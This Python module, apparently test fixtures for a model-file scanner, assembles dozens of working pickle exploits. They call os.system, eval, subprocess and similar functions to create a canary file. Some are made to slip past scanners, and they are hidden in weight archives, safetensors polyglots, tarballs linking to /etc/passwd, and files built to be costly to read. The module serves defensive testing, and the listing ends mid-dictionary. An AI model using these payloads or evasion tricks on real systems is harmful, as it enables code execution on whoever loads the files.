"""Hostile files: programs for pickle's machine that run code, and every container that can carry one.

Each attack creates one file, the canary, when something runs it. Most do so under the plain `pickle.loads`; the tests
see to it that they do.
"""

from __future__ import annotations

import gzip
import io
import json
import marshal
import os
import pickle
import struct
import tarfile
import types
import zipfile
from dataclasses import dataclass
from pathlib import Path
from typing import Callable

import numpy as np

MAGIC = 0x1950A86A20F9469CFC6C


# A small assembler. Each function gives instructions that leave one object on the stack.


def name(module: str, attribute: str) -> bytes:
    return b"c" + module.encode() + b"\n" + attribute.encode() + b"\n"


def text(value: str) -> bytes:
    return b"X" + struct.pack("<I", len(value.encode())) + value.encode()


def value(plain: object, protocol: int = 3) -> bytes:
    """None, a number, text, bytes, an array, or a tuple, list or dict of these."""
    return pickle.dumps(plain, protocol)[2:-1]  # without PROTO and STOP


def call(callee: bytes, *arguments: bytes) -> bytes:
    return callee + b"(" + b"".join(arguments) + b"tR"


def call_with(callee: bytes, arguments: tuple, keywords: dict) -> bytes:
    """As `call`, with keywords: a functools.partial is given them by BUILD."""
    state = b"(" + callee + value(arguments) + value(keywords) + b"Nt"
    return call(call(name("functools", "partial"), name("builtins", "print")) + state + b"b")


def attribute(owner: bytes, key: str) -> bytes:
    return call(name("builtins", "getattr"), owner, text(key))


def program(body: bytes, protocol: int = 2) -> bytes:
    return b"\x80" + bytes([protocol]) + body + b"."


# The attacks


@dataclass(frozen=True)
class Attack:
    """A value that a pickle makes by running code.

    Attributes:
        body: the instructions that leave it on the stack.
        named: the reader is to call it an attack; if not, it is to leave it alone.
        real: plain pickle.loads runs it, here and in every version that the tests run with.
        setup: Python that has to run before, for pickle.loads to run it.
        protocol: of the pickle.
    """

    body: bytes
    named: bool = True
    real: bool = True
    setup: str = ""
    protocol: int = 4

    @property
    def program(self) -> bytes:
        return program(self.body, self.protocol)


SYSTEM = name("os", "system")
# The os module by attributes alone: collections._collections_abc.sys.modules.get("os")
OS_UNNAMED = call(
    attribute(attribute(attribute(name("collections", "_collections_abc"), "sys"), "modules"), "get"), text("os")
)


def attacks(canary: Path) -> dict[str, Attack]:
    """Attacks that create `canary`, by what they go through."""
    shell = f"touch '{canary}'"
    command = text(shell)
    touch = value(["touch", str(canary)])
    source = f"open({str(canary)!r}, 'w')"
    python, path = text(source), text(str(canary))
    code = compile(source, "<attack>", "exec")
    # map runs only when something takes its items, which bytes.__new__ does.
    running = call(name("builtins", "map"), SYSTEM, value([shell]))
    nested = program(call(SYSTEM, command))
    empty = b"}"

    return {
        # each instruction that calls
        "REDUCE": Attack(call(SYSTEM, command)),
        "REDUCE, protocol 0": Attack(SYSTEM + b"(V" + shell.encode() + b"\ntR", protocol=0),
        "INST": Attack(b"(" + command + b"ios\nsystem\n"),
        "OBJ": Attack(b"(" + SYSTEM + command + b"o"),
        "NEWOBJ": Attack(name("builtins", "bytes") + b"(" + running + b"t\x81"),
        "NEWOBJ_EX": Attack(name("builtins", "bytes") + b"(" + running + b"t" + empty + b"\x92"),
        "copyreg's NEWOBJ": Attack(call(name("copyreg", "__newobj__"), name("builtins", "bytes"), running)),
        "BUILD": Attack(
            name("argparse", "Namespace") + b")\x81}" + text("__setstate__") + SYSTEM + b"sb" + command + b"b"
        ),
        "EXT1": Attack(call(b"\x82\x07", command), named=False, setup="copyreg.add_extension('os', 'system', 7)"),
        "EXT2": Attack(
            call(b"\x83\x07\x01", command), named=False, setup="copyreg.add_extension('posix', 'system', 263)"
        ),
        "EXT4": Attack(
            call(b"\x84\x07\x00\x01\x00", command),
            named=False,
            setup="copyreg.add_extension('subprocess', 'getoutput', 65543)",
        ),
        # each way to name something
        "posix": Attack(call(name("posix", "system"), command)),
        "STACK_GLOBAL": Attack(call(text("os") + text("system") + b"\x93", command)),
        "STACK_GLOBAL from the memo": Attack(
            call(text("system") + b"q\xc80" + text("os") + b"q\xc90h\xc9h\xc8\x93", command)
        ),
        "STACK_GLOBAL, a name under two numbers": Attack(
            call(
                text("os") + b"q\xc8r\xc8\x01\x00\x000" + text("system") + b"q\xc80j\xc8\x01\x00\x00h\xc8\x93", command
            )
        ),
        "STACK_GLOBAL, duplicated": Attack(call(text("os") + b"20" + text("system") + b"20\x93", command)),
        "STACK_GLOBAL, popped to a mark": Attack(
            call(text("os") + b"(" + text("x") + b"1" + text("system") + b"\x93", command)
        ),
        "dotted name": Attack(call(text("logging") + text("os.system") + b"\x93", command)),
        "dotted name with an underscore": Attack(call(text("argparse") + text("_os.system") + b"\x93", command)),
        "a module in a module": Attack(call(attribute(name("logging", "os"), "system"), command)),
        "a module under another name": Attack(call(attribute(name("argparse", "_os"), "system"), command)),
        "Python 2's __builtin__": Attack(call(name("__builtin__", "eval"), python), protocol=2),
        "Python 2's commands": Attack(call(name("commands", "getoutput"), command), protocol=2),
        # what runs Python
        "eval": Attack(call(name("builtins", "eval"), python)),
        "exec": Attack(call(name("builtins", "exec"), python)),
        "compile": Attack(
            call(
                call(
                    name("types", "FunctionType"),
                    call(name("builtins", "compile"), python, text("x"), text("exec")),
                    _globals(),
                )
            )
        ),
        "types.CodeType": Attack(call(call(name("types", "FunctionType"), _code(code), _globals()))),
        "marshal": Attack(
            call(
                call(
                    name("types", "FunctionType"),
                    call(name("marshal", "loads"), value(marshal.dumps(code))),
                    _globals(),
                )
            )
        ),
        "__import__": Attack(call(attribute(call(name("builtins", "__import__"), text("os")), "system"), command)),
        "importlib": Attack(call(attribute(call(name("importlib", "import_module"), text("os")), "system"), command)),
        "_frozen_importlib": Attack(
            call(attribute(call(name("_frozen_importlib", "__import__"), text("os")), "system"), command)
        ),
        "runpy": Attack(call(name("runpy", "_run_code"), text(source), empty)),
        "code": Attack(call(attribute(call(name("code", "InteractiveInterpreter")), "runsource"), python)),
        "timeit": Attack(
            call(name("timeit", "timeit"), python, text("pass"), name("timeit", "default_timer"), value(1))
        ),
        "cProfile": Attack(call(name("cProfile", "run"), python, value(f"{canary}.profile"))),
        "profile": Attack(call(name("profile", "run"), python, value(f"{canary}.profile"))),
        "bdb": Attack(call(attribute(call(name("bdb", "Bdb")), "run"), python), real=False),  # it waits for a user
        "trace": Attack(call(attribute(call(name("trace", "Trace")), "run"), python), real=False),  # prints every line
        "pickle": Attack(call(name("pickle", "loads"), value(nested))),
        "_pickle": Attack(call(name("_pickle", "loads"), value(nested))),
        # what runs programs
        "subprocess": Attack(call(name("subprocess", "getoutput"), command)),
        "subprocess.Popen": Attack(call(name("subprocess", "call"), touch)),
        "_posixsubprocess": Attack(call(name("_posixsubprocess", "fork_exec"), command), real=False),
        "os.popen": Attack(call(attribute(call(name("os", "popen"), command), "read"))),
        "os.posix_spawnp": Attack(
            call(name("os", "posix_spawnp"), text("touch"), touch, value({"PATH": "/usr/bin:/bin"}))
        ),
        "pty": Attack(call(name("pty", "spawn"), touch), real=False),  # it wants a terminal
        "pydoc": Attack(call(name("pydoc", "pipepager"), text("x"), text(f"cat > '{canary}'"))),
        "uuid": Attack(call(name("uuid", "_get_command_stdout"), text("touch"), path), real=False),
        "imaplib": Attack(call(name("imaplib", "IMAP4_stream"), command)),
        "_osx_support": Attack(call(name("_osx_support", "_read_output"), command)),
        "webbrowser": Attack(
            call(attribute(call(name("webbrowser", "GenericBrowser"), value(["touch", "%s"])), "open"), path)
        ),
        "ctypes": Attack(call(attribute(call(name("ctypes", "CDLL"), b"N"), "system"), value(shell.encode()))),
        "pip": Attack(call(name("pip._internal.utils.subprocess", "call_subprocess"), touch), real=False),
        "asyncio": Attack(call(name("asyncio.subprocess", "create_subprocess_shell"), command), real=False),
        "multiprocessing": Attack(call(name("multiprocessing.util", "_os.system"), command), real=False),
        # what opens files and connections
        "open": Attack(call(name("builtins", "open"), path, text("w"))),
        "io.open": Attack(call(name("io", "open"), path, text("w"))),
        "_io.FileIO": Attack(call(name("_io", "FileIO"), path, text("w"))),
        "os.mkdir": Attack(call(name("os", "mkdir"), path)),
        "shutil": Attack(call(name("shutil", "copy"), text("/etc/hostname"), path), real=False),
        "socket": Attack(call(name("socket", "create_connection"), value(("127.0.0.1", 9))), real=False),
        "urllib": Attack(call(name("urllib.request", "urlretrieve"), text("file:///etc/hostname"), path), real=False),
        "shelve": Attack(call(name("shelve", "open"), path), real=False),
        # helpers that call
        "functools.partial": Attack(call(call(name("functools", "partial"), SYSTEM, command))),
        "operator.attrgetter": Attack(
            call(call(call(name("operator", "attrgetter"), text("os.system")), name("shlex", "os")), command),
            real=False,
        ),
        "operator.methodcaller": Attack(
            call(call(name("operator", "methodcaller"), text("system"), command), name("shlex", "os"))
        ),
        "_operator.attrgetter": Attack(
            call(call(call(name("_operator", "attrgetter"), text("system")), name("shlex", "os")), command)
        ),
        "atexit": Attack(call(name("atexit", "register"), SYSTEM, command)),
        # numpy's
        "numpy.load": Attack(
            call(name("numpy", "load"), text(f"{canary}.npy"), b"N", b"\x88"), setup=_save_npy(canary)
        ),
        "numpy.memmap": Attack(call(name("numpy", "memmap"), path, text("uint8"), text("w+"), value(0), value((1,)))),
        "numpy.f2py": Attack(call(name("numpy.f2py.crackfortran", "myeval"), python, _globals(), empty)),
        "numpy.testing": Attack(call(name("numpy.testing._private.utils", "runstring"), python, _globals())),
        "numpy.lib.npyio": Attack(
            call(name("numpy.lib.npyio", "load"), text(f"{canary}.npy"), b"N", b"\x88"), real=False
        ),
        # nothing here has the name of an attack: it is left alone, and so is what it would do
        "getattr": Attack(call(attribute(OS_UNNAMED, "system"), command), named=False),
        "getattr in NEWOBJ": Attack(
            name("builtins", "bytes")
            + b"("
            + call(name("builtins", "map"), attribute(OS_UNNAMED, "system"), value([shell]))
            + b"t\x81",
            named=False,
        ),
        "partial of getattr": Attack(
            call(call(name("functools", "partial"), attribute(OS_UNNAMED, "system"), command)), named=False
        ),
        "pathlib": Attack(
            call(text("pathlib") + text("Path.touch") + b"\x93", call(name("pathlib", "Path"), path)), named=False
        ),
        "logging": Attack(call(name("logging", "FileHandler"), path), named=False),
        "zipfile": Attack(call(name("zipfile", "ZipFile"), path, text("w")), named=False),
        "a class of the attacker's": Attack(call(name("model.layers", "Net"), command), named=False, real=False),
        # where it stands
        "thrown away": Attack(call(SYSTEM, command) + b"0N"),
        "as an argument": Attack(call(name("builtins", "list"), b"(" + call(SYSTEM, command) + b"t")),
        "as a key": Attack(b"}" + call(SYSTEM, command) + b"Ns"),
        "as a state": Attack(name("argparse", "Namespace") + b")\x81}" + text("x") + call(SYSTEM, command) + b"sb"),
        "as a persistent id": Attack(call(SYSTEM, command) + b"Q", real=False),
        "after much else": Attack(b"N0" * 1000 + call(SYSTEM, command)),
        "bytes that are a pickle": Attack(value(nested), named=False, real=False),
    }


def paddle_attacks(canary: Path) -> dict[str, Attack]:
    """What Paddle has to offer."""
    nested = program(call(SYSTEM, text(f"touch '{canary}'")))
    there = text(f"{canary}.saved")
    return {
        "paddle.load": Attack(call(name("paddle", "load"), there), setup=_save(canary, nested)),
        "paddle.framework": Attack(call(name("paddle.framework.io", "load"), there), setup=_save(canary, nested)),
        "paddle.hub": Attack(
            call(name("paddle.hub", "load"), text(f"{canary}.hub"), text("net"), text("local")),
            setup=_save_hub(canary),
        ),
    }


def torch_attacks(canary: Path) -> dict[str, Attack]:
    """What PyTorch has to offer."""
    shell, python = f"touch '{canary}'", text(f"open({str(canary)!r}, 'w')")
    nested = program(call(SYSTEM, text(shell)))
    old = b"".join(pickle.dumps(part, 2) for part in (MAGIC, 1001, {})) + nested
    unsafe = {"weights_only": False}
    return {
        "torch.load": Attack(call_with(name("torch", "load"), (f"{canary}.saved",), unsafe), setup=_save(canary, old)),
        "torch.hub": Attack(
            call_with(name("torch.hub", "load"), (f"{canary}.hub", "net"), {"source": "local"}),
            setup=_save_hub(canary),
        ),
        "torch.storage": Attack(call(name("torch.storage", "_load_from_bytes"), value(old)), named=False),
        "torch.utils.collect_env": Attack(call(name("torch.utils.collect_env", "run"), text(shell))),
        "torch.utils.bottleneck": Attack(
            call(name("torch.utils.bottleneck.__main__", "run_cprofile"), python, b"}"), real=False
        ),
        "torch.utils._config_module": Attack(
            call(name("torch.utils._config_module", "ConfigModule.load_config"), b"N", value(nested)), real=False
        ),
        "torch.jit": Attack(call(name("torch.jit.unsupported_tensor_ops", "execWrapper"), python, b"}", b"}")),
        "torch.serialization": Attack(
            call_with(name("torch.serialization", "load"), (f"{canary}.saved",), unsafe), setup=_save(canary, old)
        ),
    }


def _code(code: types.CodeType) -> bytes:
    """A call of types.CodeType that makes this code."""
    keys = "argcount posonlyargcount kwonlyargcount nlocals stacksize flags code consts names varnames filename name "
    keys += "qualname firstlineno linetable exceptiontable" if hasattr(code, "co_qualname") else "firstlineno "
    keys += "" if hasattr(code, "co_qualname") else "linetable" if hasattr(code, "co_linetable") else "lnotab"
    return call(name("types", "CodeType"), *(value(getattr(code, f"co_{key}")) for key in keys.split()), b"))")


def _globals() -> bytes:
    """{"open": io.open}"""
    return b"}" + text("open") + name("io", "open") + b"s"


def _save_npy(canary: Path) -> str:
    return f"""
class Npy:
    def __reduce__(self):
        return open, ({str(canary)!r}, "w")
numpy.save({f"{canary}.npy"!r}, numpy.array([Npy()], object), allow_pickle=True)
"""


def _save(canary: Path, content: bytes) -> str:
    return f"open({f'{canary}.saved'!r}, 'wb').write({content!r})"


def _save_hub(canary: Path) -> str:
    """A folder as torch.hub and paddle.hub take it."""
    source = f"dependencies = []\ndef net(): open({str(canary)!r}, 'w')\n"
    return f"import os; os.mkdir({f'{canary}.hub'!r}); open({f'{canary}.hub/hubconf.py'!r}, 'w').write({source!r})"


# Files that carry them. Each function gives the bytes of a file whose pickle leaves `body` somewhere.

WEIGHTS = {"w": np.ones(3, "f4"), "b": np.zeros(2, "f4")}


def among_weights(body: bytes, key: str = "x") -> bytes:
    """Instructions for a state_dict of arrays, with `body` under another name."""
    return value(WEIGHTS) + text(key) + body + b"s"


def pdparams(attack: Attack) -> bytes:
    return program(among_weights(attack.body), attack.protocol)


def of_protocol(protocol: int) -> Callable[[Attack], bytes]:
    """As paddle.save(..., protocol=...) writes it."""
    return lambda attack: program(value(WEIGHTS, min(protocol, 3)) + text("x") + attack.body + b"s", protocol)


def under(key: str) -> Callable[[Attack], bytes]:
    """Where Paddle keeps the parameters' own names, or the slices of large tensors."""
    return lambda attack: program(among_weights(attack.body, key), attack.protocol)


def in_tuple(attack: Attack) -> bytes:
    """A tensor as Paddle 2.1 and later write it outside of a plain state_dict, (its name, array), with a third part."""
    return program(
        among_weights(b"(" + text("linear_0.w_0") + value(WEIGHTS["w"]) + attack.body + b"t"), attack.protocol
    )


def in_module(attack: Attack) -> bytes:
    """A whole module: an attribute of it that is no tensor."""
    state = {"_parameters": WEIGHTS, "_buffers": {}, "_modules": {}}
    state = value(state) + text("hook") + attack.body + b"s"
    module = program(name("types", "SimpleNamespace") + b")\x81" + state + b"b", attack.protocol)
    return archive({"net/data.pkl": module, "net/version": b"3\n"})


def in_saved_id(attack: Attack) -> bytes:
    """In place of the key of a tensor's storage."""
    saved_id = b"(" + text("storage") + name("torch", "FloatStorage") + attack.body + text("cpu") + value(3) + b"tQ"
    pickled = program(b"}" + text("w") + saved_id + b"s", attack.protocol)
    return archive({"net/data.pkl": pickled, "net/data/0": bytes(12), "net/version": b"3\n"})


def bare(attack: Attack) -> bytes:
    return attack.program


def archive(records: dict[str, bytes], compression: int = zipfile.ZIP_STORED) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", compression) as archive:
        for record, content in records.items():
            archive.writestr(record, content)
    return file.getvalue()


def tarred(files: dict[str, bytes], kind: bytes = tarfile.REGTYPE, form: int = tarfile.PAX_FORMAT) -> bytes:
    """A tar archive; of another kind than files, its entries have no content, and lead to /etc/passwd."""
    file = io.BytesIO()
    with tarfile.open(fileobj=file, mode="w", format=form) as archive:
        for name, content in files.items():
            info = tarfile.TarInfo(name)
            info.size, info.type = len(content) if kind == tarfile.REGTYPE else 0, kind
            info.linkname = "" if kind == tarfile.REGTYPE else "/etc/passwd"
            archive.addfile(info, io.BytesIO(content))
    return file.getvalue()


def zipped(attack: Attack) -> bytes:
    return archive({"net/data.pkl": pdparams(attack), "net/byteorder": b"little", "net/version": b"3\n"})


def zipped_next(attack: Attack) -> bytes:
    """Weights under "state_dict", and the attack where a training script leaves other things."""
    body = b"}" + text("state_dict") + value(WEIGHTS) + b"s" + text("x") + attack.body + b"s"
    return archive({"net/data.pkl": program(body, attack.protocol), "net/version": b"3\n"})


def torchscript(record: str) -> Callable[[Attack], bytes]:
    good = program(value(WEIGHTS), 4)
    return lambda attack: archive({"net/data.pkl": good, f"net/{record}": pdparams(attack), "net/version": b"3\n"})


def storage(attack: Attack) -> bytes:
    """A pickle where a tensor's numbers are."""
    size = len(attack.program) // 4 + 1
    content = attack.program.ljust(4 * size, b"\0")
    saved_id = b"(" + text("storage") + name("torch", "FloatStorage") + text("0") + text("cpu") + value(size) + b"tQ"
    tensor = call(name("torch._utils", "_rebuild_tensor"), saved_id, value(0), value((size,)), value((1,)))
    return archive({"net/data.pkl": program(b"}" + text("w") + tensor + b"s"), "net/data/0": content})


def old(at: int) -> Callable[[Attack], bytes]:
    """PyTorch's old format, five pickles in a row, one of which is the attack; 5 for one after them."""

    def build(attack: Attack) -> bytes:
        parts = [pickle.dumps(part, 2) for part in (MAGIC, 1001, {"little_endian": True})]
        parts += [program(value(WEIGHTS), 4), pickle.dumps([], 2)]
        parts[at : at + 1] = [pdparams(attack) if at == 3 else bare(attack)]
        return b"".join(parts)

    return build


def safetensors(header: dict, data: bytes = b"") -> bytes:
    encoded = json.dumps(header).encode()
    return struct.pack("<Q", len(encoded)) + encoded + data


def in_metadata(attack: Attack) -> bytes:
    entry = {"dtype": "F32", "shape": [1], "data_offsets": [0, 4]}
    return safetensors({"__metadata__": {"pickle": attack.program.decode("latin1")}, "w": entry}, bytes(4))


def in_safetensors(attack: Attack) -> bytes:
    size = len(attack.program)
    return safetensors({"w": {"dtype": "U8", "shape": [size], "data_offsets": [0, size]}}, attack.program)


def both(attack: Attack) -> bytes:
    """A valid safetensors file that is a valid pickle, too: its header is skipped as floats and strings."""
    length = int.from_bytes(b"\x80\x02G\0\0\0\0\0", "little")  # as a pickle: protocol 2, and the first byte of a float
    size = len(attack.body) + 1
    entry = {"dtype": "U8", "shape": [size], "data_offsets": [0, size]}
    start, end = b'{"(', b'":' + json.dumps(entry).encode()
    strings = b"U~" + b"-" * 126
    # The name of the tensor is a row of strings; the last of them reaches over the rest of the header.
    tail = end + b" " * (124 - len(end)) + b"}"
    rest = length - len(start) - len(tail) - 2
    filler = strings * (rest // 128)
    filler += b"0" * (rest - len(filler))  # POP
    header = start + filler + b"U}" + tail
    assert len(header) == length, (len(header), length)
    return struct.pack("<Q", length) + header + attack.body + b"."


def npy(attack: Attack) -> bytes:
    """numpy's file of an array of objects, which is a pickle."""
    header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    header += b" " * (-(len(header) + 11) % 64) + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + attack.program


def npz(attack: Attack) -> bytes:
    """numpy's archive with such an array."""
    return archive({"w.npy": npy(attack)})


def after(attack: Attack) -> bytes:
    """Good weights, and a second pickle after them."""
    return program(value(WEIGHTS), 4) + attack.program


def two_archives(attack: Attack) -> bytes:
    """A good archive after a hostile one, as `cat` makes it."""
    return zipped(attack) + archive({"net/data.pkl": program(value(WEIGHTS), 4), "net/version": b"3\n"})


def in_comment(attack: Attack) -> bytes:
    """A good archive whose comment is a hostile one."""
    good = archive({"net/data.pkl": program(value(WEIGHTS), 4), "net/version": b"3\n"})
    comment = zipped(attack)[:60_000]
    return good[:-2] + struct.pack("<H", len(comment)) + comment


# Files that torch.load reads otherwise than whoever reads the program and the archive by themselves. Without PyTorch's
# ways, "w" is 1, 2, 3 in each of them.

NUMBERS = {"0": struct.pack("<3f", 1, 2, 3), "1": struct.pack("<3f", 7, 8, 9)}


def saved_id(key: str = "0", kind: str = "FloatStorage", count: int = 3, view: tuple | None = None) -> bytes:
    """A reference to the numbers under a key; only the old format has views, which are (key, offset, count)."""
    last = b"" if view is None else b"N" if view == () else value(view)
    return b"(" + text("storage") + name("torch", kind) + text(key) + text("cpu") + value(count) + last + b"tQ"


def tensor(storage: bytes, offset: int = 0, shape: bytes = value((3,)), stride: bytes = value((1,))) -> bytes:
    geometry = value(offset) + shape + stride
    return call(name("torch._utils", "_rebuild_tensor_v2"), storage, geometry, b"\x89", EMPTY)


EMPTY = call(name("collections", "OrderedDict"))


def parameter(data: bytes, state: bytes | None = None) -> bytes:
    if state is None:
        return call(name("torch._utils", "_rebuild_parameter"), data, b"\x89", EMPTY)
    return call(name("torch._utils", "_rebuild_parameter_with_state"), data, b"\x89", EMPTY, state)


def of_type(storage: bytes, state: bytes, kind: bytes = name("torch", "Tensor")) -> bytes:
    """A tensor with attributes, or of a subclass."""
    arguments = b"(" + storage + value(0) + value((3,)) + value((1,)) + b"\x89" + EMPTY + b"t"
    rebuild = name("torch._utils", "_rebuild_tensor_v2")
    return call(name("torch._tensor", "_rebuild_from_type_v2"), rebuild, kind, arguments, state)


def named(**tensors: bytes) -> bytes:
    """Instructions for a dict of what other instructions make."""
    return b"}(" + b"".join(text(key) + made for key, made in tensors.items()) + b"u"


def pth(body: bytes, **records: bytes) -> bytes:
    """A zip archive with both storages, and further records."""
    stored = {f"net/data/{key}": content for key, content in NUMBERS.items()}
    return archive({"net/data.pkl": program(body), **stored, "net/version": b"3\n", **records})


def old_pth(body: bytes, sizes: dict[str, int] | None = None) -> bytes:
    """The old format, with the storages of these keys and bytes an element; those that the program uses by default."""
    sizes = sizes or {key: 4 for key in NUMBERS if text(key) in body}
    parts = b"".join(pickle.dumps(part, 2) for part in (MAGIC, 1001, {"little_endian": True}))
    parts += program(body) + pickle.dumps(list(sizes), 2)
    return parts + b"".join(struct.pack("<Q", 12 // size) + NUMBERS[key] for key, size in sizes.items())


def moved(view: tuple | None) -> dict[str, bytes]:
    """Programs in which PyTorch finds other numbers; `view` is what the ids of the format end in."""
    one, other = saved_id("0", view=view), saved_id("1", view=view)
    w, far = tensor(one), tensor(other)
    geometry = value(0) + value((3,)) + value((1,))
    attributes = {key: b"}" + text(key) + far + b"s" for key in ("data", "real")}
    return {
        "BUILD": named(w=w + b"(" + other + geometry + b"tb"),
        "BUILD without strides": named(w=w + other + value(0) + value((3,)) + b"\x87b"),
        "BUILD of a storage": named(w=w + other + b"\x85b"),
        "BUILD of nothing": named(w=w + b")b"),
        "BUILD of an empty dict": named(w=w + b"}b"),
        "BUILD of a Parameter": named(w=parameter(w) + b"(" + other + geometry + b"tb"),
        "BUILD of an old Variable": named(w=parameter(w) + b"(" + far + b"NN\x89Ntb"),
        **{f"{key} of a Parameter": named(w=parameter(w, state)) for key, state in attributes.items()},
        **{f"{key} of a type": named(w=of_type(one, state)) for key, state in attributes.items()},
        "data of a slot of a Parameter": named(w=parameter(w, b"N" + attributes["data"] + b"\x86")),
        "data of a slot of a type": named(w=of_type(one, b"}" + attributes["data"] + b"\x86")),
        "a key as two dtypes": named(v=tensor(saved_id("0", "IntStorage", view=view)), w=w),
        "a shape that grows": named(
            v=value([1]) + b"q\xc8", w=tensor(one, 2, b"h\xc8", b"h\xc8"), x=b"h\xc8" + value(1) + b"a"
        ),
        "a new dict with something in it": name("collections", "OrderedDict")
        + b"("
        + named(w=w)
        + b"t\x81("
        + text("v")
        + far
        + b"u",
        "a count of pairs": call(name("collections", "Counter"), b"](" + text("w") + w + b"\x86e")
        + b"("
        + text("v")
        + far
        + b"u",
        "a Parameter of nothing": named(w=parameter(b"N"), v=w),
    }


def two_directories() -> bytes:
    """An archive with a directory right before its end, and another one inside an entry, of which its record tells."""
    hidden_start = archive({"net/x": b""}).index(b"PK\x01\x02")
    hidden = pth(named(w=tensor(saved_id("1"))))
    at = start = hidden.index(b"PK\x01\x02")
    directory = bytearray(hidden[:-22])
    count = 0
    while at < len(directory):  # what it describes begins after the header of net/x
        begin = struct.unpack("<L", directory[at + 42 : at + 46])[0]
        directory[at + 42 : at + 46] = struct.pack("<L", begin + hidden_start)
        at += 46 + sum(struct.unpack("<3H", directory[at + 28 : at + 34]))
        count += 1
    place, end = hidden_start + start, hidden_start + len(directory)
    record = struct.pack("<4sQ2H2L4Q", b"PK\x06\x06", 44, 45, 45, 0, 0, count, count, end - place, place)
    locator = struct.pack("<4sLQL", b"PK\x06\x07", 0, end, 1)
    program_of_one = program(named(w=tensor(saved_id("0"))))
    outer = archive({"net/x": bytes(directory) + record, "net/data.pkl": program_of_one, "net/data/0": NUMBERS["0"]})
    # The locator is the comment of the last entry, right before the end.
    last = outer.rindex(b"PK\x01\x02") + 32
    size = struct.pack("<L", struct.unpack("<L", outer[-10:-6])[0] + len(locator))
    longer = outer[:last] + struct.pack("<H", len(locator)) + outer[last + 2 : -22] + locator
    return longer + outer[-22:-10] + size + outer[-6:]


def two_readings() -> dict[str, bytes]:
    """The files, by what is in them; each gives a name to a .pth."""
    w, far = named(w=tensor(saved_id("0"))), named(w=tensor(saved_id("1")))
    first, second = NUMBERS.values()
    view = saved_id("0", view=("9", 0, 1)), saved_id("0", view=("9", 2, 1))
    one = {"shape": value((1,))}
    views = {
        "a view key with two offsets": named(v=tensor(view[1], **one), w=tensor(view[0], **one)),
        "a view under the key of a storage": named(
            v=tensor(saved_id("1", view=())), w=tensor(saved_id("0", view=("1", 0, 3)))
        ),
        "a view without a key": named(
            v=tensor(saved_id("1", view=(None, 0, 3))), w=tensor(saved_id("0", view=(None, 0, 3)))
        ),
    }
    version = {"net/version": b"3\n"}
    folder = archive({"net/data.pkl": program(named(w=tensor(saved_id("0/")))), "net/data/0/": first, **version})
    mark = folder.index(b"\x10", folder.rindex(b"PK\x01\x02", 0, folder.rindex(b"net/data/0/")) + 38)  # of a folder
    of_python_2 = named(w=tensor(saved_id().replace(text("0"), b"U\x02\xc3\xa9")))  # as UTF-8 or as Latin-1
    return {
        **{f"{key}, zip": pth(body) for key, body in moved(None).items()},
        **{f"{key}, old": old_pth(body) for key, body in moved(()).items()},
        **{key: old_pth(body) for key, body in views.items()},
        "numbers twice, in capitals": archive(
            {"net/data.pkl": program(w), "net/data/0": first, "net/DATA/0": second, **version}
        ),
        "numbers twice, in capitals first": archive(
            {"net/data.pkl": program(w), "net/DATA/0": second, "net/data/0": first, **version}
        ),
        "programs twice, in capitals": pth(w, **{"net/DATA.PKL": program(far)}),
        "programs twice, in capitals first": archive(
            {
                "net/DATA.PKL": program(far),
                "net/data.pkl": program(w),
                "net/data/0": first,
                "net/data/1": second,
                **version,
            }
        ),
        "big-endian in capitals": pth(w, **{"net/BYTEORDER": b"big"}),
        "a key that is no ASCII": archive(
            {"net/data.pkl": program(of_python_2), "net/data/\u00c3\u00a9": first, "net/data/\u00e9": second, **version}
        ),
        "a folder by its name": folder[:mark] + b"\0" + folder[mark + 1 :],
        "two directories": two_directories(),
    }


CIFAR_10, CIFAR_100 = ("data_batch_1", "test_batch", "batches.meta"), ("train", "test", "meta")


def cifar(member: str, mode: str = "w") -> Callable[[Attack], bytes]:
    """An archive of CIFAR-10 or CIFAR-100 whose one member is hostile."""
    members, labels = (CIFAR_10, b"labels") if member in CIFAR_10 else (CIFAR_100, b"fine_labels")

    def build(attack: Attack) -> bytes:
        file = io.BytesIO()
        with tarfile.open(fileobj=file, mode=mode) as tar:
            for key in members:
                content = {b"data": np.zeros((2, 3072), "u1"), labels: [1, 2]}
                content = pickle.dumps(content, 2) if key != member else pdparams(attack)
                info = tarfile.TarInfo(f"cifar/{key}")
                info.size = len(content)
                tar.addfile(info, io.BytesIO(content))
        return file.getvalue()

    return build


# What costs more than it should, and runs nothing


def long_names(count: int) -> bytes:
    """A tar.gz of nothing but headers that say how long the next one's name is."""
    info = tarfile.TarInfo("././@LongLink")
    info.type, info.size = tarfile.GNUTYPE_LONGNAME, 1
    return gzip.compress((info.tobuf(tarfile.GNU_FORMAT) + b"x".ljust(512, b"\0")) * count)


def deep(depth: int) -> str:
    """JSON that can be parsed, and not printed by what calls itself for each level."""
    return "[" * depth + "]" * depth


# Arguments of CSPNets whose weights are small and whose layers, on an image of 256 x 256 pixels, are not.
_SMALLEST = {"backbone": "darknet", "depths": [1], "channels": [2], "expand_ratio": [1.0], "bottle_ratio": [1.0]}
COSTLY_NETWORKS = {
    "wide stem": {**_SMALLEST, "stem_channels": 6000, "num_classes": 2},
    "many channels of images": {**_SMALLEST, "stem_channels": 2, "in_channels": 5000, "num_classes": 2},
    "wide stem of stride 2": {**_SMALLEST, "backbone": "resnet", "stem_channels": 6000, "num_classes": 2},
}


def costly_state(kind: str) -> dict[str, np.ndarray]:
    """The tensors of one of these networks, under Paddle's names."""
    from paddle_dense.models.cspnet import CSPNet
    from paddle_dense.models.recognise import Architecture

    shapes = Architecture("CSPNet", CSPNet, COSTLY_NETWORKS[kind]).outline().state_dict()
    random = np.random.default_rng(0)
    return {
        name: (random.uniform(0.5, 1.5, tensor.shape) / max(np.prod(tensor.shape[1:]), 1)).astype("f4")
        for name, tensor in shapes.items()
    }


# By the name of the file that the bytes go into.
WEIGHT_FILES: dict[str, Callable[[Attack], bytes]] = {
    "bare.pdparams": bare,
    "state.pdparams": pdparams,
    "protocol2.pdparams": of_protocol(2),
    "protocol3.pdparams": of_protocol(3),
    "protocol5.pdparams": of_protocol(5),
    "names.pdparams": under("StructuredToParameterName@@"),
    "slices.pdparams": under("UnpackBigParamInfor@@"),
    "tuple.pdparams": in_tuple,
    "after.pdparams": after,
    "npy.pdparams": npy,
    "npz.pdparams": npz,
    "bare.pth": bare,
    "zip.pth": zipped,
    "next.pth.tar": zipped_next,
    "storage.pth": storage,
    "module.pth": in_module,
